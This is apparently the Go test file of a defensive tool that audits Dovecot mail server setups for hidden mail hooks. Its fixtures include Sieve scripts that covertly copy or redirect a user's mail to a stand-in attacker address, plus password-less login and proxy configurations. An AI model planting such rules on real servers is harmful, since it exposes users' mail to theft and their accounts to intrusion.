package dovecot

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"waxseal"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
)

const (
	base   = "protocols = imap lmtp\nmail_location = maildir:~/Maildir\npassdb {\n  driver = pam\n}\nuserdb {\n  driver = passwd\n}\n"
	loaded = base + "protocol lmtp {\n  mail_plugins = sieve\n}\n"
	modern = "dovecot_config_version = 2.4.0\nprotocols = imap lmtp\nprotocol lmtp {\n  mail_plugins {\n    sieve = yes\n  }\n}\n"
	passwd = "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n"
)

// read gives the hooks beyond those that every configuration of the tests has.
func read(files map[string]string) (mta.Result, []string) {
	all := map[waxseal.Path]snapshot.Object{"/etc/passwd": {Content: []byte(passwd)}}
	for name, text := range files {
		if to, ok := strings.CutPrefix(text, "-> "); ok {
			all[waxseal.Path(name)] = snapshot.Object{File: waxseal.File{Type: waxseal.Symlink, Link: to}}
			continue
		}
		all[waxseal.Path(name)] = snapshot.Object{Content: []byte(text)}
	}
	r := Read(snapshot.New(all), mask.New([]byte("k")), mta.Options{Package: mta.NoPackages, Domains: []string{"example.test"}})
	var out []string
	usual := []string{"dovecot:passdb 1", "dovecot:userdb 1", "dovecot:mail_location", "dovecot:protocol lmtp:mail_plugins:sieve"}
	for _, h := range r.Hooks {
		id := string(h.ID)
		if slices.Contains(usual, id) && !strings.Contains(h.Directive, "db") {
			continue
		}
		if slices.Contains(usual, id) && (h.Target.Value == "pam" || h.Target.Value == "passwd") {
			continue
		}
		line := fmt.Sprintf("%s | %s | %s %s | %s", strings.TrimPrefix(id, "dovecot:"), h.Kind, h.Target.Type, h.Target.Value, h.Scope)
		if h.Target.Remote {
			line += " | remote"
		}
		if !h.Active {
			line += " | inactive: " + h.Modifiers["inactive"]
		}
		out = append(out, line)
	}
	return r, out
}

func TestHooks(t *testing.T) {
	alice := "/home/alice/.dovecot.sieve"
	for _, tc := range []struct {
		name, conf string
		files      map[string]string
		want       []string
	}{
		{"a copy for a stranger", loaded, map[string]string{alice: "require \"copy\";\nredirect :copy \"x@evil.example\";\n"}, []string{
			"/home/alice/.dovecot.sieve:redirect:1 | copy | address x@evil.example | recipient alice | remote"}},
		{"sieve is not loaded", base, map[string]string{alice: "discard;\n"}, []string{
			"/home/alice/.dovecot.sieve:discard:1 | discard | text discard | recipient alice | inactive: no protocol that could use it (lda, lmtp) loads the plugin sieve (mail_plugins)"}},
		{"only IMAP loads it", base + "protocol imap {\n  mail_plugins = sieve\n}\n", map[string]string{alice: "discard;\n"}, []string{
			"protocol imap:mail_plugins:sieve | plugin | text sieve | all mail that is read by IMAP",
			"/home/alice/.dovecot.sieve:discard:1 | discard | text discard | recipient alice | inactive: no protocol that could use it (lda, lmtp) loads the plugin sieve (mail_plugins)"}},
		{"behind stop", loaded, map[string]string{alice: "keep;\nstop;\nredirect \"x@evil.example\";\n"}, []string{
			"/home/alice/.dovecot.sieve:redirect:1 | copy | address x@evil.example | recipient alice | remote | inactive: the script ends before it (stop)"}},
		{"scripts before and after, up to the first that is missing", loaded + "plugin {\n  sieve_before = /s/a.sieve\n  sieve_before2 = /s/b.sieve\n  sieve_before4 = /s/c.sieve\n  sieve_after = /s/d\n}\n",
			map[string]string{"/s/a.sieve": "keep;", "/s/b.sieve": "keep;", "/s/c.sieve": "keep;", "/s/d/2.sieve": "keep;", "/s/d/1.sieve": "keep;", "/s/d/3.txt": "discard;"}, []string{
				"sieve_before | map | table /s/a.sieve | all mail that is delivered", "sieve_before2 | map | table /s/b.sieve | all mail that is delivered",
				"sieve_after:1.sieve | map | table /s/d/1.sieve | all mail that is delivered", "sieve_after:2.sieve | map | table /s/d/2.sieve | all mail that is delivered"}},
		{"the store is linked", loaded, map[string]string{alice: "-> sieve/main.sieve", "/home/alice/sieve/main.sieve": "require \"include\";\ninclude \"more\";\n", "/home/alice/sieve/more.sieve": "redirect \"bob@example.test\";\n", "/home/alice/sieve/old.sieve": "discard;\n"}, []string{
			"/home/alice/.dovecot.sieve:more:redirect:1 | redirect | address bob@example.test | recipient alice"}},
		{"what is included is not there", loaded, map[string]string{alice: "-> sieve/a.sieve", "/home/alice/sieve/a.sieve": "require \"include\";\ninclude \"b\";\ndiscard;\n"}, []string{
			"/home/alice/.dovecot.sieve:include:1 | unreadable | file b | recipient alice | inactive: Dovecot does not compile this script, since the script b that it includes is not there (line 2)",
			"/home/alice/.dovecot.sieve:discard:1 | discard | text discard | recipient alice | inactive: Dovecot does not compile this script, since the script b that it includes is not there (line 2)"}},
		{"several are told", loaded, map[string]string{alice: "require \"enotify\";\nnotify \"mailto:x@evil.example?cc=bob@example.test\";\n"}, []string{
			"/home/alice/.dovecot.sieve:notify:1 | copy | address x@evil.example | recipient alice | remote",
			"/home/alice/.dovecot.sieve:notify:2 | copy | address bob@example.test | recipient alice"}},
		{"scripts include each other", loaded, map[string]string{alice: "-> sieve/a.sieve", "/home/alice/sieve/a.sieve": "require \"include\";\ninclude \"b\";\n", "/home/alice/sieve/b.sieve": "require \"include\";\ninclude \"a\"; include \"b\"; discard;\n"}, []string{
			"/home/alice/.dovecot.sieve:b:discard:1 | discard | text discard | recipient alice"}},
		{"a program that is not there", loaded + "plugin {\n  sieve_plugins = sieve_extprograms\n  sieve_extensions = +vnd.dovecot.pipe\n  sieve_pipe_bin_dir = /usr/lib/dovecot/sieve-pipe\n}\n",
			map[string]string{alice: "require [\"vnd.dovecot.pipe\"];\npipe \"x\";\npipe \"y\" \"z\";\n", "/usr/lib/dovecot/sieve-pipe/y": "#!/bin/sh\n", "/usr/lib/dovecot/sieve-pipe/other": "#!/bin/sh\n"}, []string{
				"sieve_plugins:sieve_extprograms | plugin | text sieve_extprograms | all mail that Sieve scripts see",
				"/home/alice/.dovecot.sieve:pipe:1 | pipe | command /usr/lib/dovecot/sieve-pipe/x | recipient alice | inactive: there is no such program in /usr/lib/dovecot/sieve-pipe",
				"/home/alice/.dovecot.sieve:pipe:2 | pipe | command /usr/lib/dovecot/sieve-pipe/y z | recipient alice",
				"sieve_pipe_bin_dir:other | pipe | command /usr/lib/dovecot/sieve-pipe/other | mail of which a Sieve script says pipe | inactive: no Sieve script that is known here runs it"}},
		{"a program behind a socket", loaded + "plugin {\n  sieve_plugins = sieve_extprograms\n  sieve_extensions = +vnd.dovecot.execute\n}\nservice x {\n  executable = script -e \"A\" /opt/x.sh one\n  user = vmail\n  unix_listener sieve-execute/x {\n  }\n}\n",
			map[string]string{alice: "require \"vnd.dovecot.execute\";\nif execute \"x\" { discard; }\n"}, []string{
				"sieve_plugins:sieve_extprograms | plugin | text sieve_extprograms | all mail that Sieve scripts see",
				"/home/alice/.dovecot.sieve:execute:1 | pipe | command /opt/x.sh one | recipient alice",
				"/home/alice/.dovecot.sieve:discard:1 | discard | text discard | recipient alice where execute \"x\"",
				"service x:executable | script | command /opt/x.sh one | service x"}},
		{"a place that is a database", loaded + "plugin {\n  sieve_before = ldap:/etc/x.conf\n}\n", nil, []string{
			"sieve_before | map | table ldap:/etc/x.conf | all mail that is delivered"}},
		{"virtual users of a file", strings.Replace(loaded, "driver = passwd\n", "driver = passwd-file\n  args = /etc/dovecot/users\n", 1), map[string]string{
			"/etc/dovecot/users": "carol@example.test:{PLAIN}secret:5000:5000::/srv/carol::userdb_mail=maildir:/dev/shm/carol\n", "/srv/carol/.dovecot.sieve": "redirect \"x@evil.example\";\n"}, []string{
			"userdb 1:user carol@example.test:mail | transport | file /dev/shm/carol | recipient carol@example.test", "userdb 1 | map | table passwd-file /etc/dovecot/users | all",
			"/srv/carol/.dovecot.sieve:redirect:1 | redirect | address x@evil.example | recipient carol@example.test | remote"}},
		{"static homes", strings.Replace(loaded, "driver = passwd\n", "driver = static\n  args = uid=vmail home=/srv/%d/%n\n", 1), map[string]string{"/srv/example.test/dave/.dovecot.sieve": "discard;\n"}, []string{
			"userdb 1 | map | table static | all", "userdb 1:args:home | transport | service /srv/%d/%n | all",
			"/srv/example.test/dave/.dovecot.sieve:discard:1 | discard | text discard | recipient dave@example.test"}},
		{"scripts in a place of their own", loaded + "plugin {\n  sieve = /var/lib/sieve/%u.sieve\n}\n", map[string]string{"/var/lib/sieve/erin@example.test.sieve": "discard;\n"}, []string{
			"/var/lib/sieve/erin@example.test.sieve:discard:1 | discard | text discard | recipient erin@example.test"}},
		{"IMAPSieve without its plugin", loaded + "plugin {\n  imapsieve_mailbox1_name = Junk\n  imapsieve_mailbox1_causes = COPY\n  imapsieve_mailbox1_before = file:/s/spam.sieve\n}\n", map[string]string{"/s/spam.sieve": "keep;"}, []string{
			"imapsieve_mailbox1_before | map | table /s/spam.sieve | mail that users put into Junk by IMAP (copy) | inactive: no protocol that could use it (imap) loads the plugin imap_sieve (mail_plugins)"}},
		{"proxied by the databases", base + "lmtp_proxy = yes\npassdb {\n  driver = static\n  args = proxy=y host=203.0.113.9 nopassword=y\n}\n", nil, []string{
			"lmtp_proxy | transport | service the hosts that the password database names | all mail that is delivered by LMTP", "passdb 2 | map | table static | all",
			"passdb 2:args:host | transport | host 203.0.113.9 | all | remote"}},
		{"no password, for those of one network", base + "passdb {\n  driver = static\n  args = nopassword=y allow_nets=10.0.0.0/8\n}\n", nil, []string{
			"passdb 2:args:nopassword | policy | text nopassword | whoever logs in, as any user,", "passdb 2 | map | table static | all"}},
		{"2.4: no password, and one for all", modern + "passdb static {\n  fields {\n    nopassword = yes\n  }\n}\npassdb static {\n  password = x\n}\n", nil, []string{
			"passdb 1:fields:nopassword | policy | text nopassword | whoever logs in, as any user,", "passdb 1 | map | table static | all",
			"passdb 1:nopassword | map | table one password for all users | whoever logs in, as any user,"}},
		{"one user without a password", base + "passdb {\n  driver = passwd-file\n  args = /etc/dovecot/users\n}\n", map[string]string{"/etc/dovecot/users": "alice:::::::nopassword\nbob:x::::::nopassword=n\n"}, []string{
			"passdb 2:user alice:nopassword | policy | text nopassword | the user alice", "passdb 2 | map | table passwd-file /etc/dovecot/users | all"}},
		{"programs elsewhere", base + "libexec_dir = /opt/d/libexec/\n", nil, []string{"libexec_dir | binary | file /opt/d/libexec/ | all"}},
		{"programs where packages put them", base + "libexec_dir = /usr/libexec/dovecot\n", nil, nil},
		{"what is included is not in the tree", "!include conf.d/*.conf\nplugin {\n  sieve_before = /s/a.sieve\n}\n", map[string]string{"/s/a.sieve": "discard;"}, []string{
			"sieve_before | map | table /s/a.sieve | all mail that is delivered", "sieve_before:discard:1 | discard | text discard | all mail that is delivered"}},
		{"2.4: scripts, plugins, IMAPSieve", modern + "sieve_plugins = sieve_imapsieve\nsieve_script one {\n  type = before\n  path = /s/a.sieve\n}\nprotocol imap {\n  mail_plugins {\n    imap_sieve = yes\n  }\n}\nmailbox Spam {\n  sieve_script spam {\n    type = before\n    cause = copy\n    path = /s/b.sieve\n  }\n}\n",
			map[string]string{"/s/a.sieve": "discard;", "/s/b.sieve": "keep;", alice: "discard;"}, []string{
				"protocol imap:mail_plugins:imap_sieve | plugin | text imap_sieve | all mail that is read by IMAP",
				"sieve_plugins:sieve_imapsieve | plugin | text sieve_imapsieve | all mail that Sieve scripts see",
				"sieve_script one | map | table /s/a.sieve | all mail that is delivered", "sieve_script one:discard:1 | discard | text discard | all mail that is delivered",
				"/home/alice/.dovecot.sieve:discard:1 | discard | text discard | recipient alice",
				"mailbox Spam, sieve_script spam | map | table /s/b.sieve | mail that users put into Spam by IMAP (copy)"}},
		{"a namespace elsewhere, sessions written down, doveadm for other hosts", base + "namespace x {\n  location = maildir:/dev/shm/m\n}\nprotocol imap {\n  rawlog_dir = /tmp/raw\n}\nservice doveadm {\n  inet_listener {\n    port = 12345\n  }\n}\nauth_verbose_passwords = sha1:6\n", nil, []string{
			"namespace x:location | transport | file /dev/shm/m | all mail that is delivered, in the namespace x",
			"protocol imap:rawlog_dir | copy | file /tmp/raw | all mail that is read by IMAP", "service doveadm, inet_listener:port | map | table doveadm at port 12345 | all mail of every user"}},
		{"2.4: what runs at a quota warning", modern + "quota \"User quota\" {\n  warning warn-95 {\n    quota_storage_percentage = 95\n    execute quota-warning {\n      args = 95\n    }\n    execute /usr/local/bin/x {\n      driver = fork\n    }\n  }\n}\nservice quota-warning {\n  executable = script /opt/w.sh\n  user = vmail\n  unix_listener quota-warning {\n  }\n}\n", nil, []string{
			"quota User quota, warning warn-95, execute quota-warning | script | command /opt/w.sh 95 | all mail that is stored",
			"quota User quota, warning warn-95, execute /usr/local/bin/x | script | command /usr/local/bin/x | all mail that is stored",
			"service quota-warning:executable | script | command /opt/w.sh | service quota-warning"}},
		{"a service that is Dovecot's own", base + "service imap {\n  executable = imap post\n}\nservice auth {\n  user = root\n}\n", nil, nil},
		{"defaults spelled out", base + "log_path = syslog\nsendmail_path = /usr/sbin/sendmail\nmail_plugin_dir = /usr/lib/dovecot/modules\nimport_environment = TZ CORE_OUTOFMEM\n", nil, nil},
		{"one connection's plugins", base + "remote 10.0.0.0/8 {\n  mail_plugins = notify\n}\n", nil, []string{
			"remote 10.0.0.0/8:mail_plugins:notify | plugin | text notify | all, of clients at 10.0.0.0/8"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{"/etc/dovecot/dovecot.conf": tc.conf}
			for name, text := range tc.files {
				files[name] = text
			}
			_, got := read(files)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

// TestSecrets: passwords of user files and keys stand in no output.
func TestSecrets(t *testing.T) {
	r, _ := read(map[string]string{"/etc/dovecot/dovecot.conf": base + "doveadm_password = hunter2\nssl_key = </etc/key.pem\npassdb {\n  driver = passwd-file\n  args = /etc/dovecot/m\n  master = yes\n}\nimapc_password = hunter2\npassdb {\n  driver = static\n  args = user=x password=hunter2 host=h\n  override_fields = pass=hunter2\n}\nfts_solr_url = x\nplugin {\n  fts_solr = url=http://u:hunter2@solr.example/\n  mail_crypt_global_private_key = hunter2\n}\nmail_plugins = fts_solr\n", "/etc/dovecot/m": "boss:{PLAIN}hunter2\n", "/etc/key.pem": "-----BEGIN PRIVATE KEY-----\nhunter2\n-----END PRIVATE KEY-----\n"})
	if text := fmt.Sprintf("%+v", r); strings.Contains(text, "hunter2") {
		t.Errorf("a password is told: %s", text[max(0, strings.Index(text, "hunter2")-200):])
	}
}

// TestPartialTree: where the files that load plugins may be missing from the tree
// only, scripts count as run.
func TestPartialTree(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"a script alone":             {"/home/alice/.dovecot.sieve": "discard;\n"},
		"without the main file":      {"/etc/dovecot/conf.d/90-sieve.conf": "plugin {\n}\n", "/home/alice/.dovecot.sieve": "discard;\n"},
		"without those of protocols": {"/etc/dovecot/dovecot.conf": "!include conf.d/*.conf\n", "/etc/dovecot/conf.d/90-sieve.conf": "plugin {\n}\n", "/home/alice/.dovecot.sieve": "discard;\n"},
	} {
		t.Run(name, func(t *testing.T) {
			r, _ := read(files)
			if !slices.ContainsFunc(r.Hooks, func(h waxseal.Hook) bool { return h.Directive == "discard" && h.Active }) {
				t.Errorf("no active hook: %+v", r.Hooks)
			}
		})
	}
	r, _ := read(map[string]string{"/home/alice/.dovecot.sieve": "discard;\n", "/var/lib/dpkg/status": "Package: postfix\n", "/usr/sbin/postfix": ""})
	if slices.ContainsFunc(r.Hooks, func(h waxseal.Hook) bool { return h.Active }) {
		t.Errorf("Dovecot is not installed, and yet: %+v", r.Hooks)
	}
	if r, _ := read(nil); len(r.Stacks)+len(r.Hooks) > 0 {
		t.Errorf("there is no Dovecot, and yet: %+v", r)
	}
}
